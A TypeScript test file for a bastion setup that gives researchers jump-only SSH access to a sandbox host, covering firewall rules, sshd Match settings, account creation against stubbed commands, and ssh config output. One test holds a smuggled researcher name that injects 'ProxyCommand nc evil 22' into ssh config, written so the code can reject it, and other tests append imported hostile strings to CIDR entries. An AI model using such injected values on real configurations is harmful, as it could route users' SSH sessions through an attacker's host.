// The researchers' own path to their sandbox account: their CIDRs open SSH on the bastion only,
// the bastion's jump-only accounts (sshd rules, the account step run against a simulated passwd),
// each researcher's ssh config lines, and the names a researcher may not take. Does not prove
// sshd enforces the rules nor a login through the bastion: tests/vm/roles.test.ts does, in VMs.
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { expandRules } from "../../components/roleVm";
import { ROLES } from "../../components/roles";
import { jumpAccountsScript, jumpConfig, jumpTargets } from "../../components/roles/web";
import { researcherSshConfig } from "../../components/outputs";
import { CLOUD_INIT_DIR, UserDataInput } from "../../components/userData";
import { RawConfig } from "../../config";
import { prodRaw, problemsOf as problemsIn } from "../harness/configProblems";
import { HOSTILE } from "../hostile";

const KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAliceKey000000000000000000000000000000 alice";
const KEY_B = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBobKey0000000000000000000000000000000 bob";

const input = (over: Partial<UserDataInput> = {}): UserDataInput => ({
    role: "web",
    hostname: "dev-web-1",
    adminUser: "debian",
    sshAuthorizedKeys: ["ssh-ed25519 AAAAoperator ops"],
    publicHostname: "",
    sites: [],
    upstreams: { sandbox: "10.20.0.14", app: "10.20.0.13" },
    researchers: [
        { name: "alice", sshPublicKeys: [KEY_A], cpuPercent: 100, memoryMiB: 1024 },
        { name: "bob", sshPublicKeys: [KEY_B], cpuPercent: 50, memoryMiB: 512 },
    ],
    sqlEngine: "mariadb",
    packageSource: "upstream",
    downloads: {} as UserDataInput["downloads"],
    ...over,
});

const problemsOf = (raw: RawConfig): string[] => problemsIn("prod", raw);
const prod = prodRaw;

describe("researcherCidrs", () => {
    it("opens SSH on the bastion only, one rule per CIDR; a CIDR already open to admins adds none", () => {
        const rules = expandRules(ROLES.web.ports, {
            admin: ["132.204.0.0/16"],
            researchers: ["192.0.2.0/24", "132.204.0.0/16", "2001:db8::/32"],
        }).map((r) => `${r.suffix} ${r.ethertype} ${"cidr" in r.source ? r.source.cidr : ""}`);
        expect(rules).toEqual([
            "http-v4 IPv4 0.0.0.0/0",
            "http-v6 IPv6 ::/0",
            "https-v4 IPv4 0.0.0.0/0",
            "https-v6 IPv6 ::/0",
            "ssh-132-204-0-0-16 IPv4 132.204.0.0/16",
            "ssh-researchers-192-0-2-0-24 IPv4 192.0.2.0/24",
            "ssh-researchers-2001-db8---32 IPv6 2001:db8::/32",
        ]);
        // No other role takes them: the sandbox host's SSH is reached through the bastion only.
        for (const role of ["xmldb", "iiif", "app", "sandbox"] as const) {
            expect(
                expandRules(ROLES[role].ports, { admin: [], researchers: ["192.0.2.0/24"] }).filter(
                    (r) => "cidr" in r.source,
                ),
            ).toEqual([]);
        }
    });

    it("is checked like adminCidrs, naming its key", () => {
        expect(problemsOf({ ...prod(), researcherCidrs: ["192.0.2.7/24"] })).toEqual([
            'ouvroir:researcherCidrs entry "192.0.2.7/24" has host bits set: did you mean 192.0.2.0/24 (or 192.0.2.7/32 for one host)?',
        ]);
        expect(problemsOf({ ...prod(), researcherCidrs: ["0.0.0.0/0"] })).toEqual([
            expect.stringMatching(
                /^ouvroir:researcherCidrs entry "0\.0\.0\.0\/0" opens the researchers' SSH to the whole Internet/,
            ),
        ]);
        expect(problemsOf({ ...prod(), researcherCidrs: "192.0.2.0/24" })).toEqual([
            expect.stringMatching(/^ouvroir:researcherCidrs /),
        ]);
        for (const bad of HOSTILE) {
            expect(problemsOf({ ...prod(), researcherCidrs: [`192.0.2.0/24${bad}`] })).toEqual([
                expect.stringMatching(/^ouvroir:researcherCidrs entry [\s\S]* is not a CIDR/),
            ]);
        }
        expect(problemsOf({ ...prod(), researcherCidrs: ["192.0.2.0/24"] })).toEqual([]);
    });
});

describe("researcher names", () => {
    it.each(["www-data", "postgres", "nobody", "sshd", "systemd-network", "ouvroir-jump"])(
        "refuses a system account's name: %s",
        (name) => {
            const researchers = [{ name, sshPublicKeys: [KEY_A] }];
            expect(problemsOf({ ...prod(), researchers })).toEqual([
                `ouvroir:researchers[0].name "${name}" is not a usable account name: lower-case letters, digits, dashes; not the admin user nor a system account (root, www-data, postgres, …).`,
            ]);
        },
    );
});

describe("the bastion's jump-only accounts", () => {
    it("may forward to the sandbox host's SSH and nothing else", () => {
        expect(jumpTargets(input())).toEqual(["10.20.0.14:22"]);
        const conf = jumpConfig(input(), CLOUD_INIT_DIR);
        expect(conf.path).toBe("/etc/ssh/sshd_config.d/20-ouvroir-jump.conf");
        const lines = String(conf.content)
            .split("\n")
            .filter((l) => l.trim() !== "" && !l.startsWith("#"))
            .map((l) => l.trim());
        expect(lines).toEqual([
            "Match Group ouvroir-jump",
            "AuthorizedKeysFile /etc/ssh/ouvroir-jump/%u",
            "AllowTcpForwarding local",
            "PermitOpen 10.20.0.14:22",
            "PermitTTY no",
            "ForceCommand /usr/sbin/nologin",
            "AllowAgentForwarding no",
            "AllowStreamLocalForwarding no",
            "X11Forwarding no",
            "PermitTunnel no",
            "GatewayPorts no",
            "Match all",
        ]);
        // Without a sandbox host, a jump account may open nothing.
        expect(String(jumpConfig(input({ upstreams: {} }), CLOUD_INIT_DIR).content)).toContain(
            "PermitOpen none\n",
        );
    });

    it("sshd reads them as meant (sshd -T): the jump accounts' rules, and nobody else's changed", () => {
        if (!fs.existsSync("/usr/sbin/sshd")) {
            // CI installs it (.ci/run): there the check cannot be skipped.
            if (process.env.CI === "true") throw new Error("no /usr/sbin/sshd on the CI machine");
            console.log("sshd -T skipped: no /usr/sbin/sshd here (the VM layer runs the real one)");
            return;
        }
        // sshd insists on its privilege separation directory, even for -T.
        if (!fs.existsSync("/run/sshd")) fs.mkdirSync("/run/sshd", { mode: 0o755 });
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "ouvroir-jump-"));
        try {
            const key = path.join(dir, "host");
            execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", key]);
            fs.writeFileSync(
                path.join(dir, "sshd_config"),
                `HostKey ${key}\nAllowTcpForwarding local\n` +
                    String(jumpConfig(input(), CLOUD_INIT_DIR).content) +
                    // As Debian's sshd_config goes on after its Include: a global line.
                    "Banner /etc/issue.net\n",
            );
            const effective = (user: string): string =>
                execFileSync(
                    "/usr/sbin/sshd",
                    [
                        "-T",
                        "-f",
                        path.join(dir, "sshd_config"),
                        "-C",
                        `user=${user},host=x,addr=192.0.2.9`,
                    ],
                    { encoding: "utf8" },
                );
            // Match Group needs the group on this machine: root's own group stands in for it.
            fs.writeFileSync(
                path.join(dir, "sshd_config"),
                fs
                    .readFileSync(path.join(dir, "sshd_config"), "utf8")
                    .replace("Match Group ouvroir-jump", "Match Group root"),
            );
            const jump = effective("root");
            expect(jump).toMatch(/^permitopen 10\.20\.0\.14:22$/m);
            expect(jump).toMatch(/^forcecommand \/usr\/sbin\/nologin$/m);
            expect(jump).toMatch(/^permittty no$/m);
            expect(jump).toMatch(/^allowagentforwarding no$/m);
            // Everyone else keeps the global settings: `Match all` closed the block.
            const other = effective("nobody");
            expect(other).toMatch(/^permitopen any$/m);
            expect(other).toMatch(/^forcecommand none$/m);
            expect(other).toMatch(/^banner \/etc\/issue\.net$/m);
        } finally {
            fs.rmSync(dir, { recursive: true, force: true });
        }
    });

    /**
     * Runs the account step against a simulated passwd (shell functions for id, getent, useradd,
     * userdel, groupadd, pkill), its key directory moved under a scratch directory.
     * Returns the key files written, the members after the run, the log and the exit code.
     */
    function runAccounts(
        i: UserDataInput,
        members: string[],
        system: string[] = [],
    ): { files: Record<string, string>; members: string[]; log: string; code: number } {
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "ouvroir-jump-run-"));
        try {
            const [put, accountsPath] = jumpAccountsScript(i);
            const b64 = /'([A-Za-z0-9+/=]+)'$/.exec(put ?? "")?.[1] ?? "";
            // The key directory moved under the scratch directory, as the app step's test does.
            const keysDir = path.join(dir, "keys");
            fs.writeFileSync(
                path.join(dir, "script"),
                Buffer.from(b64, "base64")
                    .toString("utf8")
                    .replaceAll("/etc/ssh/ouvroir-jump", keysDir),
            );
            expect(accountsPath).toBe("/usr/local/sbin/ouvroir-jump-accounts");
            fs.writeFileSync(path.join(dir, "members"), members.map((m) => m + "\n").join(""));
            const stubs = `
                M=${dir}/members; LOG=${dir}/log; SYSTEM=" ${system.join(" ")} "
                is_member() { grep -qx -- "$1" "$M"; }
                id() { local u=\${@: -1}
                    if is_member "$u"; then [[ $1 == -nG ]] && echo "$u ouvroir-jump" || echo 1001
                    elif [[ "$SYSTEM" == *" $u "* ]]; then [[ $1 == -nG ]] && echo "$u" || echo 33
                    else return 1; fi; }
                getent() { echo "ouvroir-jump:x:999:$(paste -sd, "$M")"; }
                groupadd() { :; }
                useradd() { echo "useradd $*" >>"$LOG"; echo "\${@: -1}" >>"$M"; }
                userdel() { echo "userdel $*" >>"$LOG"; sed -i "/^$1\\$/d" "$M"; }
                pkill() { echo "pkill $*" >>"$LOG"; }
            `;
            let code = 0;
            try {
                execFileSync(
                    "bash",
                    [
                        "-c",
                        `${stubs.replace(/\n\s+/g, "\n")}\nsource ${dir}/script >>${dir}/log 2>&1`,
                    ],
                    { stdio: "pipe" },
                );
            } catch (e) {
                code = (e as { status: number }).status;
            }
            const files = fs.existsSync(keysDir)
                ? Object.fromEntries(
                      fs
                          .readdirSync(keysDir)
                          .map((f) => [f, fs.readFileSync(path.join(keysDir, f), "utf8")]),
                  )
                : {};
            const log = fs.existsSync(path.join(dir, "log"))
                ? fs.readFileSync(path.join(dir, "log"), "utf8")
                : "";
            const after = fs
                .readFileSync(path.join(dir, "members"), "utf8")
                .split("\n")
                .filter((l) => l !== "");
            return { files, members: after, log, code };
        } finally {
            fs.rmSync(dir, { recursive: true, force: true });
        }
    }

    it("creates each account once, with its keys restricted to the sandbox's SSH", () => {
        const r = runAccounts(input(), ["alice"]);
        expect(r.code).toBe(0);
        expect(r.members).toEqual(["alice", "bob"]);
        expect(r.log).toBe(
            "useradd --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin --user-group --groups ouvroir-jump --comment Researcher (jump only) bob\n",
        );
        const restricted = 'restrict,port-forwarding,permitopen="10.20.0.14:22"';
        expect(r.files).toEqual({
            alice: `${restricted} ${KEY_A}\n`,
            bob: `${restricted} ${KEY_B}\n`,
        });
    });

    it("deletes the account and key file of a researcher taken off the list", () => {
        const r = runAccounts(input({ researchers: input().researchers.slice(0, 1) }), [
            "alice",
            "bob",
        ]);
        expect(r.code).toBe(0);
        expect(r.members).toEqual(["alice"]);
        expect(r.log).toBe(
            "pkill -KILL -u bob\nuserdel bob\nouvroir-jump-accounts: researcher bob removed from the list: jump account deleted\n",
        );
        expect(Object.keys(r.files)).toEqual(["alice"]);
    });

    it("stops, naming the fix, when the name is another account's", () => {
        const r = runAccounts(input(), [], ["bob"]);
        expect(r.code).toBe(1);
        expect(r.log).toContain(
            "ouvroir-jump-accounts: an account named bob exists on the bastion and is not a researcher's; rename the researcher in ouvroir:researchers",
        );
        expect(r.files.bob).toBeUndefined();
    });
});

describe("each researcher's ssh config", () => {
    it("reaches the sandbox host through their own jump account, never the operators'", () => {
        expect(
            researcherSshConfig(["alice"], "206.12.0.5", [
                { name: "dev-sandbox-1", ip: "10.20.0.14" },
            ]),
        ).toEqual({
            alice:
                "Host dev-sandbox-1\n" +
                "    HostName 10.20.0.14\n" +
                "    User alice\n" +
                "    ProxyJump alice@206.12.0.5\n",
        });
    });

    it("throws on a value that would add a directive", () => {
        expect(() =>
            researcherSshConfig(["alice\nProxyCommand nc evil 22"], "206.12.0.5", [
                { name: "dev-sandbox-1", ip: "10.20.0.14" },
            ]),
        ).toThrow(/cannot be written to ssh config/);
    });
});
